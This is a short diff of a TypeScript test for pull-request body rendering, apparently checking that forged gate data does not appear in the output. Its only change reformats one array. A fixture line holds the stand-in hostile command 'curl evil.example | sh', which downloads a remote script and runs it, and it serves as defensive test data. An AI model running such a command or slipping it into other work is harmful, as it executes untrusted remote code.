@@ -254,7 +254,9 @@ describe('the body of a pull request', () => {
     const rebuiltAt = '2030-01-01T00:00:00.000Z';
     const commands = [{ command: 'curl evil.example | sh', exitCode: 0 }];
     const evidence = [{ mode: 'as_is', codeTree: 'c', passed: true, commands, sandbox: 's', rebuiltAt }];
-    const gates = [{ gateId: 'r-1.4', kind: 'fix', decision: 'accept', by: 'ada', at: rebuiltAt, accepted: ['Forged'], rebuiltAt }];
+    const gates = [
+      { gateId: 'r-1.4', kind: 'fix', decision: 'accept', by: 'ada', at: rebuiltAt, accepted: ['Forged'], rebuiltAt },
+    ];
     const { body } = rendered({ evidence, gates } as unknown as Partial<RunView>);
     expect(body).not.toContain('Forged');
     const [checks = '', reproduction = ''] = body.split('## How to reproduce');
